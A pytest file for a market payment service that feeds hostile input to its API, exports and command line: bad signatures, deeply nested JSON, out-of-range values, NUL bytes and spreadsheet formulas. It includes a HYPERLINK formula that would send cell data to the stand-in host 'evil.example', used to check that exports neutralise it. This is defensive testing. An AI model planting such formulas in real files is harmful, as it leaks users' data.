"""Hostile input at the service's edges (issue 18): each is a clear 4xx, never a 500."""

import http.client
import json
import time
import urllib.parse

import pytest
from sqlalchemy import func, select

from market_pay.extensions import db
from market_pay.payments.models import BankTransaction, InboxEntry
from tests.conftest import PG_URL
from tests.factories import auth_header, make_user, make_vendor
from tests.payments.helpers import SIMBANK_SECRET, count, partner_stall, simbank_transfer
from tests.servers import cli, fresh_database_url, gunicorn, service_env


@pytest.fixture
def stall(app):
    return partner_stall()


# --- 1. signatures with non-ASCII characters -------------------------------------------------

NON_ASCII_SIGNED = {
    "simbank": lambda now: {"X-Signature": f"t={now},v1=é"},
    "simbank-many": lambda now: {"X-Signature": f"t={now},v1=ab,v1=\u00ff\u00fe"},
    "sepay": lambda now: {"X-SePay-Timestamp": str(now), "X-SePay-Signature": "sha256=é"},
    "sepay-apikey": lambda now: {"Authorization": "Apikey clé"},
}
REJECTED_FORMAT = {
    "simbank": lambda b: b["status"] == "rejected",
    "sepay": lambda b: b["success"] is False,
    "payos": lambda b: b["success"] is False,
}


@pytest.mark.parametrize("case", sorted(NON_ASCII_SIGNED))
def test_a_non_ascii_signature_header_is_401_and_kept_as_rejected(client, stall, case):
    partner = case.split("-")[0]
    body = json.dumps(simbank_transfer(stall.accounts[0])).encode()
    response = client.post(
        f"/api/v1/callbacks/{partner}",
        data=body,
        content_type="application/json",
        headers=NON_ASCII_SIGNED[case](int(time.time())),
    )
    assert response.status_code == 401 and REJECTED_FORMAT[partner](response.get_json())
    assert count(BankTransaction) == 0
    entry = db.session.scalar(select(InboxEntry))
    assert entry.outcome == "rejected" and entry.reason


@pytest.mark.parametrize("signature", ["é", "\ud800", "ab\u00e9cd" * 8])
def test_a_payos_body_with_a_non_ascii_signature_is_401_and_kept_as_rejected(client, stall, signature):
    data = {
        "orderCode": 5,
        "amount": 45_000,
        "description": "thanh toan",
        "accountNumber": "0011001234567",
        "reference": "FT-PAYOS-1",
        "transactionDateTime": "2026-11-22 11:00:00",
        "paymentLinkId": "l-1",
        "code": "00",
        "desc": "success",
    }
    body = json.dumps({"code": "00", "desc": "success", "success": True, "data": data, "signature": signature})
    response = client.post("/api/v1/callbacks/payos", data=body, content_type="application/json")
    assert response.status_code == 401 and response.get_json()["success"] is False
    assert count(BankTransaction) == 0
    assert db.session.scalar(select(InboxEntry.outcome)) == "rejected"


@pytest.fixture(params=["sqlite"] + (["postgresql"] if PG_URL else []))
def served(request, tmp_path):
    """A real gunicorn with simbank and SePay credentials."""
    env = service_env(fresh_database_url(request.param, tmp_path, PG_URL))
    cli(env, "db", "upgrade")
    cli(env, "partners", "set", "simbank", "--secret", SIMBANK_SECRET)
    cli(env, "partners", "set", "sepay", "--secret", "sepay-secret", "--api-key", "sepay-key")
    with gunicorn(env, workers=1, threads=1) as base:
        yield base


def raw_post(base: str, path: str, header_lines: list[bytes], body: bytes) -> tuple[int, bytes]:
    """POST with header bytes exactly as given (http.client would refuse to send non-ASCII)."""
    parsed = urllib.parse.urlsplit(base)
    connection = http.client.HTTPConnection(parsed.hostname, parsed.port, timeout=30)
    connection.putrequest("POST", path)
    for line in header_lines:
        name, _, value = line.partition(b": ")
        connection.putheader(name.decode(), value)  # bytes values go on the wire untouched
    connection.putheader("Content-Type", "application/json")
    connection.putheader("Content-Length", str(len(body)))
    connection.endheaders(body)
    response = connection.getresponse()
    try:
        return response.status, response.read()
    finally:
        connection.close()


@pytest.mark.slow
def test_non_ascii_signature_bytes_over_real_http_are_401_in_the_partners_format(served):
    now = str(int(time.time())).encode()
    body = json.dumps({"transaction_id": "SIM1", "amount": 1000}).encode()
    for path, lines in [
        ("/api/v1/callbacks/simbank", [b"X-Signature: t=" + now + b",v1=\xc3\xa9"]),  # é in UTF-8
        ("/api/v1/callbacks/simbank", [b"X-Signature: t=" + now + b",v1=\xe9"]),  # é in latin-1
        ("/api/v1/callbacks/sepay", [b"X-SePay-Timestamp: " + now, b"X-SePay-Signature: sha256=\xe9\xff"]),
        ("/api/v1/callbacks/sepay", [b"Authorization: Apikey \xc3\xa9"]),
    ]:
        status, answer = raw_post(served, path, lines, body)
        assert status == 401, (path, lines, status, answer)
        decoded = json.loads(answer)
        assert decoded.get("status") == "rejected" or decoded.get("success") is False


# --- 2. deeply nested JSON -----------------------------------------------------------------

DEEP = [
    b"[" * 100_000,
    b"[" * 900 + b"]" * 900,
    b'{"a":' * 40 + b"1" + b"}" * 40,
    b'{"code": "X", "name": ' + b"[" * 50 + b"]" * 50 + b"}",
]


def assert_error_shape(response, code):
    body = response.get_json()
    assert response.status_code == code, (response.status_code, body)
    assert set(body) == {"code", "status", "message", "errors"} and body["code"] == code
    return body


@pytest.mark.parametrize("raw", DEEP, ids=["open-100k", "balanced-900", "objects-40", "inside-a-field"])
@pytest.mark.parametrize(
    "path,role",
    [
        ("/api/v1/auth/token", None),
        ("/api/v1/markets", "admin"),
        ("/api/v1/vendors", "admin"),
        ("/api/v1/qr/decode", "admin"),
        ("/api/v1/users", "admin"),
    ],
)
def test_deeply_nested_json_is_400_with_the_error_shape(client, app, raw, path, role):
    headers = auth_header(make_user(role)) if role else {}
    response = client.post(path, data=raw, content_type="application/json", headers=headers)
    assert_error_shape(response, 400)


def test_json_nested_as_deep_as_the_bound_is_still_read(client, app):
    from market_pay.common.jsontext import MAX_DEPTH, loads

    assert loads(b"[" * MAX_DEPTH + b"]" * MAX_DEPTH) is not None
    assert loads(b'"' + b"[" * 100 + b'"') == "[" * 100  # brackets inside a string are not nesting


@pytest.mark.parametrize("raw", DEEP[:3], ids=["open-100k", "balanced-900", "objects-40"])
def test_deeply_nested_callbacks_are_refused_in_the_partners_format_and_kept(client, stall, raw):
    for partner in ("simbank", "sepay", "payos"):
        response = client.post(f"/api/v1/callbacks/{partner}", data=raw, content_type="application/json")
        assert response.status_code == 401 and REJECTED_FORMAT[partner](response.get_json()), partner
    assert count(InboxEntry, InboxEntry.outcome == "rejected") == 3
    # Signed but unreadable: authentic, so kept and filed as malformed (never a 500).
    from tests.payments.helpers import post_simbank

    signed = post_simbank(client, None, raw=raw)
    assert signed.status_code == 200
    assert count(InboxEntry, InboxEntry.outcome == "malformed") == 1 and count(BankTransaction) == 0


def test_a_payos_body_with_deeply_nested_data_is_refused_not_a_server_error(client, stall):
    nested = json.loads(b"[" * 200 + b"]" * 200)
    body = json.dumps({"data": {"amount": 1, "extra": nested}, "signature": "00"})
    response = client.post("/api/v1/callbacks/payos", data=body, content_type="application/json")
    assert response.status_code == 401 and response.get_json()["success"] is False


# --- 7. spreadsheet formulas ---------------------------------------------------------------

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Chợ A")'


@pytest.mark.parametrize(
    "value,expected",
    [
        (EVIL_NAME, "'" + EVIL_NAME),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Chợ Một", "Chợ Một"),
        ("Chợ = A", "Chợ = A"),
        ("", ""),
        (-1500, -1500),
        (0, 0),
        (2.5, 2.5),
        (None, None),
        ("-1500", "-1500"),
        ("-12,5", "-12,5"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_and_nothing_else_changes(value, expected):
    from market_pay.common.spreadsheet import csv_cell

    assert csv_cell(value) == expected


def test_xlsx_text_cells_are_text_never_formulas():
    from openpyxl import Workbook

    from market_pay.common.spreadsheet import set_xlsx_cell

    sheet = Workbook().active
    evil, number, error_code = (
        set_xlsx_cell(sheet, 1, 1, EVIL_NAME),
        set_xlsx_cell(sheet, 1, 2, -1500),
        set_xlsx_cell(sheet, 1, 3, "#N/A"),
    )
    assert (evil.data_type, evil.value, evil.quotePrefix) == ("s", EVIL_NAME, True)
    assert (number.data_type, number.value) == ("n", -1500)
    assert (error_code.data_type, error_code.value) == ("s", "#N/A")
    assert set_xlsx_cell(sheet, 1, 4, "bad\x01char").value == "bad\ufffdchar"


@pytest.fixture
def evil_market_report(app):
    """Three active stalls in a market renamed to a formula (listed by name in the report)."""
    from tests.factories import make_market, make_region
    from tests.reports.helpers import at, credit

    province = make_region("P", "province", name="-Tỉnh Thử")
    commune = make_region("C1", "commune", province, name="@Xã Một")
    market = make_market("M1", commune, EVIL_NAME)
    for _ in range(3):
        stall = make_vendor(market)
        stall.created_at = stall.accounts[0].created_at = at("2026-08-01 08:00")
        db.session.commit()
        credit(stall, 10_000, "2026-11-05 10:00")
    return make_user("admin")


def get_adoption(client, user, **query):
    return client.get(
        "/api/v1/reports/adoption",
        headers=auth_header(user),
        query_string={"from": "2026-11-01", "to": "2026-11-30", "region": "P", **query},
    )


def test_a_market_named_as_a_formula_is_plain_text_in_the_adoption_csv(client, evil_market_report):
    import csv
    import io

    response = get_adoption(client, evil_market_report, format="csv")
    assert response.status_code == 200
    lines = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    market = dict(zip(lines[0], lines[1], strict=True))
    assert market["Chợ"] == "'" + EVIL_NAME and market["Xã / phường"] == "'@Xã Một"
    assert market["Giá trị không tiền mặt (₫)"] == "30000"  # numbers untouched
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines for cell in line), lines


def test_a_market_named_as_a_formula_is_a_text_cell_in_the_adoption_xlsx(client, evil_market_report):
    import io

    from openpyxl import load_workbook

    response = get_adoption(client, evil_market_report, format="xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell for cell in cells if cell.data_type == "f"]
    named = [cell for cell in cells if cell.value == EVIL_NAME]
    assert named and all(cell.data_type == "s" and cell.quotePrefix for cell in named)
    commune = [cell for cell in cells if cell.value == "@Xã Một"]
    assert commune and commune[0].quotePrefix
    assert 30_000 in [cell.value for cell in cells if cell.data_type == "n"]


def test_statement_ids_shaped_as_formulas_are_plain_text_in_breaks_csv(client, stall, tmp_path):
    import csv
    import io

    from tests.reconciliation.statements import line, write_statement

    statement = write_statement(
        tmp_path / "sao-ke.csv",
        [
            (
                "970436",
                "0011001234567",
                0,
                [
                    line("=1+2", "@SUM(A1)", "2026-11-21T09:30:00+07:00", 1_250_000, description='=HYPERLINK("x")'),
                    line("-5+5", "+FT2", "2026-11-21T09:40:00+07:00", 1_000),
                ],
                None,
            )
        ],
    )
    admin = make_user("admin")
    with open(statement, "rb") as handle:
        run = client.post(
            "/api/v1/statements",
            headers=auth_header(admin),
            content_type="multipart/form-data",
            data={"file": (handle, "sao-ke.csv"), "partner": "simbank"},
        )
    assert run.status_code == 201, run.get_json()
    response = client.get(f"/api/v1/reconciliation-runs/{run.get_json()['id']}/breaks.csv", headers=auth_header(admin))
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=1+2" in cells and "'@SUM(A1)" in cells and "'-5+5" in cells and "'+FT2" in cells
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), rows


# --- 8. numbers and dates beyond what the database holds --------------------------------------


def encoded_cursor(text: str) -> str:
    import base64

    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


@pytest.mark.parametrize("after", ["999999999999", "2147483648", "١٢", "1_000"])
def test_a_feed_cursor_beyond_the_database_integers_is_422(client, stall, after):
    admin = auth_header(make_user("admin"))
    response = client.get(f"/api/v1/vendors/{stall.id}/payments", headers=admin, query_string={"after": after})
    assert "after" in assert_error_shape(response, 422)["errors"]


def test_the_largest_feed_cursor_is_still_read(client, stall):
    admin = auth_header(make_user("admin"))
    response = client.get(f"/api/v1/vendors/{stall.id}/payments?after=2147483647", headers=admin)
    assert response.status_code == 200 and response.get_json()["items"] == []


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/vendors",
        "/api/v1/markets",
        "/api/v1/users",
        "/api/v1/regions",
        "/api/v1/suspense",
        "/api/v1/reconciliation-runs",
    ],
)
@pytest.mark.parametrize("cursor", ["id:99999999999999", "id:-99999999999999", "id:١٢", "id:" + "9" * 5000])
def test_a_list_cursor_beyond_the_database_integers_is_422(client, app, path, cursor):
    admin = auth_header(make_user("admin"))
    response = client.get(path, headers=admin, query_string={"cursor": encoded_cursor(cursor)[:64]})
    assert "cursor" in assert_error_shape(response, 422)["errors"]


@pytest.mark.parametrize("account_id", [10**12, 2**31, -(2**31) - 1, 0])
def test_a_payment_request_for_an_account_id_out_of_range_is_422(client, stall, account_id):
    admin = auth_header(make_user("admin"))
    response = client.post(
        f"/api/v1/vendors/{stall.id}/payment-requests", headers=admin, json={"amount": 10_000, "account_id": account_id}
    )
    assert "account_id" in assert_error_shape(response, 422)["errors"]


@pytest.mark.parametrize("vendor_id", [10**12, 2**31, -1])
def test_a_suspense_assignment_to_a_vendor_id_out_of_range_is_422(client, stall, vendor_id):
    from tests.payments.helpers import post_simbank

    post_simbank(client, simbank_transfer(stall.accounts[0], 30_000, account_number="9999"))
    from market_pay.payments.models import SuspenseItem

    item = db.session.scalar(select(SuspenseItem))
    response = client.post(
        f"/api/v1/suspense/{item.id}/resolve",
        headers=auth_header(make_user("admin")),
        json={"action": "assign_stall", "vendor_id": vendor_id, "note": "x"},
    )
    assert "vendor_id" in assert_error_shape(response, 422)["errors"]


@pytest.mark.parametrize(
    "first,last",
    [
        ("0001-01-01", "0001-01-31"),
        ("9999-12-01", "9999-12-31"),
        ("1899-12-01", "1899-12-31"),
        ("2300-01-01", "2300-01-02"),
    ],
)
def test_a_report_period_far_outside_the_service_s_years_is_422(client, app, first, last):
    from tests.factories import make_region

    make_region("P", "province")
    response = client.get(
        "/api/v1/reports/adoption",
        headers=auth_header(make_user("admin")),
        query_string={"region": "P", "from": first, "to": last},
    )
    assert assert_error_shape(response, 422)["errors"]


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
def test_other_date_query_parameters_in_year_1_or_9999_are_422(client, app, day):
    admin = auth_header(make_user("admin"))
    response = client.get("/api/v1/reconciliation-runs", headers=admin, query_string={"statement_date": day})
    assert "statement_date" in assert_error_shape(response, 422)["errors"]


@pytest.mark.parametrize(
    "moment", ["0001-01-01T00:00:00+07:00", "9999-12-31T23:59:59-07:00", "0001-01-01T00:00:00+00:00"]
)
def test_a_cash_sale_at_a_time_no_one_sells_is_422(client, stall, moment):
    response = client.post(
        f"/api/v1/vendors/{stall.id}/cash-sales",
        headers=auth_header(make_user("admin")),
        json={"amount": 5_000, "occurred_at": moment},
    )
    assert "occurred_at" in assert_error_shape(response, 422)["errors"]


@pytest.mark.parametrize("field,day", [("valid_from", "0001-01-01"), ("valid_to", "9999-12-31")])
def test_a_region_valid_in_year_1_or_9999_is_422(client, app, field, day):
    response = client.post(
        "/api/v1/regions",
        headers=auth_header(make_user("admin")),
        json={"code": "X1", "name": "Xã", "kind": "commune", field: day},
    )
    assert field in assert_error_shape(response, 422)["errors"]


VENDOR_HEADER = "stall_code,display_name,phone,floor_amount,bin,account_number,account_name\n"
GOOD_VENDOR = "A-01,Rau bà Hoa,0912345678,1000,970405,1111111111,NGUYEN THI HOA\n"


@pytest.mark.parametrize(
    "text,where",
    [
        (VENDOR_HEADER + GOOD_VENDOR + "B-01," + "x" * 131_073 + ",0912345678,,970405,2222,X\n", "row 3"),
        (VENDOR_HEADER + 'B-01,"' + "x" * 140_000 + '",0912345678,,970405,2222,X\n', "row 2"),
        ("stall_code," + "x" * 131_073 + "\n" + GOOD_VENDOR, "header"),
    ],
)
def test_a_vendor_csv_field_over_the_csv_limit_is_422_naming_the_row(client, app, text, where):
    from tests.factories import make_market

    market = make_market()
    response = client.post(
        f"/api/v1/markets/{market.code}/vendors/import",
        data=text.encode(),
        content_type="text/csv",
        headers=auth_header(make_user("admin")),
    )
    assert list(assert_error_shape(response, 422)["errors"]) == [where]


def test_a_vendor_csv_field_over_the_csv_limit_is_a_clear_cli_error(runner, app, tmp_path):
    from tests.factories import make_market

    market = make_market()
    path = tmp_path / "sap.csv"
    path.write_text(VENDOR_HEADER + "B-01," + "x" * 131_073 + ",0912345678,,970405,2222,X\n", encoding="utf-8")
    result = runner.invoke(args=["vendors", "import", str(path), "--market", market.code])
    assert result.exit_code == 1 and "row 2" in result.output and result.exception.__class__ is SystemExit


@pytest.mark.parametrize("note", ["Hà Giang before 0001-01-01", "Hà Giang before 2025-13-45"])
def test_a_region_file_with_an_impossible_before_date_is_a_clear_cli_error(runner, app, tmp_path, note):
    path = tmp_path / "vung.csv"
    path.write_text(f"code,name,kind,parent_code,note\nP9,Tỉnh,province,,{note}\n", encoding="utf-8")
    result = runner.invoke(args=["regions", "import", str(path)])
    assert result.exit_code == 1 and "row 2" in result.output and "note" in result.output, result.output


@pytest.mark.parametrize(
    "booked_at",
    ["9999-12-31T23:59:59-07:00", "0001-01-01T00:00:00+07:00", "0001-01-01T00:00:00", "9999-12-31T23:59:59"],
)
def test_a_statement_line_booked_in_year_1_or_9999_is_a_row_error(client, stall, tmp_path, booked_at):
    from tests.reconciliation.statements import line, write_statement

    statement = write_statement(
        tmp_path / "sao-ke.csv", [("970436", "0011001234567", 0, [line("SIM-9", "FT9", booked_at, 1_000)], None)]
    )
    with open(statement, "rb") as handle:
        response = client.post(
            "/api/v1/statements",
            headers=auth_header(make_user("admin")),
            content_type="multipart/form-data",
            data={"file": (handle, "sao-ke.csv"), "partner": "simbank", "date": "2026-11-21"},
        )
    body = assert_error_shape(response, 422)
    assert "booked_at" in json.dumps(body["errors"]) and "row 3" in json.dumps(body["errors"])


@pytest.mark.parametrize("after", ["999999999999", "2147483648", "١٢"])
def test_a_stall_event_stream_cursor_beyond_the_database_integers_is_422(client, app, after):
    from market_pay.stalls.events import FeedHub
    from tests.factories import VENDOR_PIN, scope_of
    from tests.stalls.test_board_pages import sign_in

    app.extensions["market_pay_feed_hub"] = FeedHub(app, poll_seconds=3600)
    vendor = make_vendor()
    sign_in(client, make_user("vendor", scope_of(vendor)), VENDOR_PIN)
    response = client.get("/stall/events", query_string={"after": after}, headers={"Accept": "application/json"})
    assert response.status_code == 422
    response = client.get("/stall/events", headers={"Last-Event-ID": after, "Accept": "application/json"})
    assert response.status_code == 422


# --- pages and any route: a query string that is not UTF-8 ----------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/verify",
        "/stall",
        "/reports",
        "/reports/download",
        "/stall/login",
        "/api/v1/verify",
        "/api/v1/vendors",
        "/pay/ABC",
    ],
)
def test_a_query_string_of_raw_non_utf8_bytes_is_400(client, app, path):
    response = client.get(path, environ_overrides={"QUERY_STRING": "lang=\xff\xfe"})  # latin-1 str, as in WSGI
    assert response.status_code == 400
    if path.startswith("/api/"):
        assert_error_shape(response, 400)


def raw_get(base: str, target: bytes) -> int:
    """A GET whose request line holds exactly these bytes (no client library lets one send them)."""
    import socket

    parsed = urllib.parse.urlsplit(base)
    with socket.create_connection((parsed.hostname, parsed.port), timeout=30) as sock:
        sock.sendall(b"GET " + target + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    return int(answer.split(b" ", 2)[1])


@pytest.mark.slow
def test_raw_non_utf8_query_bytes_over_real_http_are_never_a_server_error(served):
    for target in (b"/verify?lang=\xff", b"/api/v1/verify?payload=\xc3\x28", b"/stall?\xff=\xfe"):
        assert raw_get(served, target) == 400, target


# --- the command line: odd arguments and environments are a clear error, never a traceback ---


def run_cli(env_changes: dict, *args: str):
    import os
    import subprocess
    import sys

    from tests.servers import ROOT

    env = {**os.environ, "MARKET_PAY_SECRET_KEY": "cli-secret", **env_changes}
    env = {key: value for key, value in env.items() if value is not None}
    return subprocess.run(
        [sys.executable, "-m", "market_pay.cli", *args], env=env, cwd=ROOT, capture_output=True, text=True, timeout=120
    )


@pytest.mark.parametrize(
    "env_changes,says",
    [
        ({"MARKET_PAY_SECRET_KEY": None}, "MARKET_PAY_SECRET_KEY"),
        ({"MARKET_PAY_DATABASE_URL": "nonsense://x"}, "MARKET_PAY_DATABASE_URL"),
        ({"MARKET_PAY_DATABASE_URL": "not a url"}, "MARKET_PAY_DATABASE_URL"),
        ({"MARKET_PAY_DATABASE_URL": "postgresql://postgres@127.0.0.1:1/nothing"}, "Cannot use the database"),
        ({"MARKET_PAY_DATABASE_URL": "sqlite:////nonexistent-dir/x.db"}, "Cannot use the database"),
    ],
)
def test_the_cli_with_a_broken_configuration_says_what_to_fix_without_a_traceback(env_changes, says):
    result = run_cli(env_changes, "partners", "list")
    assert result.returncode == 1 and says in result.stderr and "Traceback" not in result.stderr, result.stderr


def test_the_cli_on_a_database_without_tables_says_to_migrate(tmp_path):
    result = run_cli({"MARKET_PAY_DATABASE_URL": f"sqlite:///{tmp_path / 'empty.db'}"}, "partners", "list")
    assert result.returncode == 1 and "db upgrade" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize("first,last", [("0001-01-01", "0001-01-31"), ("9999-12-01", "9999-12-31")])
def test_the_report_command_for_year_1_or_9999_names_the_dates(runner, app, tmp_path, first, last):
    from tests.factories import make_region

    make_region("P", "province")
    result = runner.invoke(
        args=["report", "--region", "P", "--from", first, "--to", last, "-o", str(tmp_path / "r.xlsx")]
    )
    assert result.exit_code == 1 and "1900-01-01" in result.output, result.output


# --- NUL characters that would reach PostgreSQL from a statement upload -----------------------

GOOD_STATEMENT = (
    "transaction_id,bank_reference,booked_at,bin,account_number,direction,amount,description,"
    "balance_after\n,,,970436,0011001234567,opening,0,,0\n"
    "SIM-1,FT1,2026-11-21T09:00:00+07:00,970436,0011001234567,in,5000,x,5000\n"
    ",,,970436,0011001234567,closing,0,,5000\n"
)


def upload_statement(client, text: str, filename: str = "sao-ke.csv"):
    import io

    return client.post(
        "/api/v1/statements",
        headers=auth_header(make_user("admin")),
        content_type="multipart/form-data",
        data={"file": (io.BytesIO(text.encode()), filename), "partner": "simbank"},
    )


def test_a_statement_file_name_with_a_nul_is_kept_without_it(client, stall):
    response = upload_statement(client, GOOD_STATEMENT, "sao\x00ke.csv")
    assert response.status_code == 201, response.get_json()
    from market_pay.reconciliation.models import ReconciliationRun

    names = [
        value
        for value in db.session.scalar(select(ReconciliationRun)).__dict__.values()
        if isinstance(value, str) and "sao" in value
    ]
    assert names and all("\x00" not in name for name in names)


@pytest.mark.parametrize(
    "field,text",
    [
        ("transaction_id", GOOD_STATEMENT.replace("SIM-1", "SIM\x001")),
        ("bank_reference", GOOD_STATEMENT.replace("FT1", "F\x00T1")),
    ],
)
def test_a_statement_line_with_a_nul_in_its_ids_is_a_row_error(client, stall, field, text):
    body = assert_error_shape(upload_statement(client, text), 422)
    assert field in json.dumps(body["errors"])


# --- 9. payOS test deliveries: kept, and decided by what payOS marks, never by the words ------


def payos_data(**changes):
    data = {
        "orderCode": 5,
        "amount": 45_000,
        "description": "thanh toan",
        "accountNumber": "0011001234567",
        "reference": "FT-PAYOS-9",
        "transactionDateTime": "2026-11-22 11:00:00",
        "currency": "VND",
        "paymentLinkId": "9f2c41d0aa6b4e0b9c3d5e7f8a1b2c3d",
        "code": "00",
        "desc": "success",
        "counterAccountName": "LE VAN C",
        "counterAccountNumber": "123",
        "counterAccountBankId": "970415",
        "counterAccountBankName": "",
        "virtualAccountName": "",
        "virtualAccountNumber": "",
    }
    data.update(changes)
    return data


@pytest.mark.parametrize(
    "description", ["VQRIO123", "Ma giao dich thu nghiem", "CK VQRIO123 mua rau", "Ma giao dich thu nghiem 45000"]
)
def test_a_real_payos_payment_whose_content_looks_like_a_test_is_recorded_and_credited(client, stall, description):
    from tests.payments.helpers import post_payos

    response = post_payos(client, payos_data(description=description))
    assert response.status_code == 200 and response.get_json() == {"success": True}
    txn = db.session.scalar(select(BankTransaction))
    assert (txn.vendor_id, txn.amount, txn.description) == (stall.id, 45_000, description)
    assert db.session.scalar(select(InboxEntry.outcome)) == "accepted"


@pytest.mark.parametrize(
    "changes",
    [
        {},  # payOS's documented sample exactly
        {"description": "Ma giao dich thu nghiem", "reference": "MA_GIAO_DICH_THU_NGHIEM"},
        {"accountNumber": "0011001234567", "amount": 10_000},  # aimed at a real account: still payOS's sample link
    ],
)
def test_payos_s_confirmation_sample_is_acknowledged_and_kept_as_a_test(client, stall, changes):
    from tests.payments.helpers import post_payos

    sample = payos_data(
        orderCode=123,
        amount=3000,
        description="VQRIO123",
        accountNumber="12345678",
        reference="TF230204212323",
        transactionDateTime="2023-02-04 18:25:00",
        paymentLinkId="124c33293c43417ab7879e14c8d9eb18",
        desc="Thành công",
        counterAccountName="",
        counterAccountNumber="",
        counterAccountBankId="",
    )
    sample.update(changes)
    response = post_payos(client, sample)
    assert response.status_code == 200 and response.get_json() == {"success": True}
    assert count(BankTransaction) == 0
    assert [(e.outcome, e.partner) for e in db.session.scalars(select(InboxEntry))] == [("test", "payos")]


def test_an_unsigned_payos_sample_is_rejected_not_taken_for_a_test(client, stall):
    body = {
        "code": "00",
        "desc": "success",
        "success": True,
        "signature": "00" * 32,
        "data": payos_data(orderCode=123, paymentLinkId="124c33293c43417ab7879e14c8d9eb18"),
    }
    response = client.post("/api/v1/callbacks/payos", json=body)
    assert response.status_code == 401
    assert db.session.scalar(select(InboxEntry.outcome)) == "rejected"


# --- 10. reports check the caller before refreshing rollups -----------------------------------


@pytest.fixture
def marked_stall_day(app):
    """A market in province P (commune C1) and one outside it (province Q), with a credit whose
    stall-day is marked for the next refresh."""
    from market_pay.reports.models import RollupDirty
    from tests.factories import make_market, make_region
    from tests.reports.helpers import credit

    province = make_region("P", "province")
    market = make_market("M1", make_region("C1", "commune", province))
    other = make_market("M9", make_region("C9", "commune", make_region("Q", "province")))
    stall = make_vendor(market)
    credit(stall, 10_000, "2026-11-05 10:00")
    assert db.session.scalar(select(func.count()).select_from(RollupDirty)) > 0
    return {"stall": stall, "market": market, "other": other}


def markers():
    from market_pay.reports.models import RollupDirty

    return db.session.scalar(select(func.count()).select_from(RollupDirty))


def forbidden_callers(world):
    from tests.factories import scope_of

    return [
        (make_user("vendor", scope_of(world["stall"])), {"market": "M1"}),
        (make_user("vendor", scope_of(world["stall"])), {"region": "P"}),
        (make_user("region_staff", "Q"), {"region": "P"}),
        (make_user("region_staff", "Q"), {"market": "M1"}),
        (make_user("market_manager", "M9"), {"market": "M1"}),
        (make_user("market_manager", "M1"), {"region": "P"}),
    ]


def test_a_forbidden_report_is_403_and_refreshes_no_rollup(client, marked_stall_day):
    before = markers()
    for user, scope in forbidden_callers(marked_stall_day):
        for file_format in ("json", "csv", "xlsx"):
            response = client.get(
                "/api/v1/reports/adoption",
                headers=auth_header(user),
                query_string={"from": "2026-11-01", "to": "2026-11-30", "format": file_format, **scope},
            )
            assert response.status_code == 403, (user.role, scope, response.get_json())
            assert markers() == before, (user.role, scope)
    allowed = client.get(
        "/api/v1/reports/adoption",
        headers=auth_header(make_user("region_staff", "P")),
        query_string={"from": "2026-11-01", "to": "2026-11-30", "region": "P"},
    )
    assert allowed.status_code == 200 and markers() == 0  # the same request, allowed, does refresh


def test_a_report_on_an_unknown_region_refreshes_no_rollup(client, marked_stall_day):
    before = markers()
    response = client.get(
        "/api/v1/reports/adoption",
        headers=auth_header(make_user("admin")),
        query_string={"from": "2026-11-01", "to": "2026-11-30", "region": "NOPE"},
    )
    assert response.status_code == 404 and markers() == before


@pytest.mark.parametrize("vendor_id", ["99999999999999", "2147483648", "0", "-1"])
def test_a_kit_for_a_vendor_id_beyond_the_database_integers_is_a_usage_error(runner, app, tmp_path, vendor_id):
    result = runner.invoke(args=["kits", "build", "--vendor", vendor_id, "-o", str(tmp_path / "k.pdf")])
    assert result.exit_code == 2 and "--vendor" in result.output and result.exception.__class__ is SystemExit


# --- JSON strings that are not text (lone surrogates) -------------------------------------------


@pytest.mark.parametrize(
    "path,body,role",
    [
        ("/api/v1/auth/token", b'{"username": "\\ud800", "password": "\\udfff"}', None),
        ("/api/v1/regions", b'{"code": "Q1", "name": "X\\ud800", "kind": "commune"}', "admin"),
        ("/api/v1/users", b'{"username": "ab\\udc00", "password": "abcdefghijkl", "role": "admin"}', "admin"),
        ("/api/v1/qr/decode", b'{"payload": "\\ud800"}', "admin"),
        ("/api/v1/markets", b'{"\\ud800": 1}', "admin"),
    ],
)
def test_a_json_string_with_a_lone_surrogate_is_400(client, app, path, body, role):
    headers = auth_header(make_user(role)) if role else {}
    assert_error_shape(client.post(path, data=body, content_type="application/json", headers=headers), 400)


def test_a_payment_request_note_with_a_lone_surrogate_is_400(client, stall):
    response = client.post(
        f"/api/v1/vendors/{stall.id}/payment-requests",
        headers=auth_header(make_user("admin")),
        data=b'{"amount": 5000, "note": "\\ud800"}',
        content_type="application/json",
    )
    assert_error_shape(response, 400)


def test_a_surrogate_pair_is_one_character_and_welcome(client, app):
    from tests.factories import make_region

    commune = make_region("C7", "commune")
    response = client.post(
        "/api/v1/markets",
        headers=auth_header(make_user("admin")),
        content_type="application/json",
        data=b'{"code": "M7", "name": "Ch\\u1ee3 \\ud83c\\udf4e", "region_code": "C7"}',
    )
    assert response.status_code == 201, response.get_json()
    assert response.get_json()["name"] == "Chợ 🍎" and commune


def test_callbacks_with_a_lone_surrogate_are_kept_never_a_server_error(client, stall):
    from tests.payments.helpers import PAYOS_KEY, post_simbank

    unsigned = b'{"data": {"amount": 1, "description": "\\ud800"}, "signature": "00"}'
    response = client.post("/api/v1/callbacks/payos", data=unsigned, content_type="application/json")
    assert response.status_code == 401 and response.get_json()["success"] is False
    signed = json.dumps(simbank_transfer(stall.accounts[0])).replace('"chuyen tien"', '"\\ud800"').encode()
    assert post_simbank(client, None, raw=signed).status_code == 200
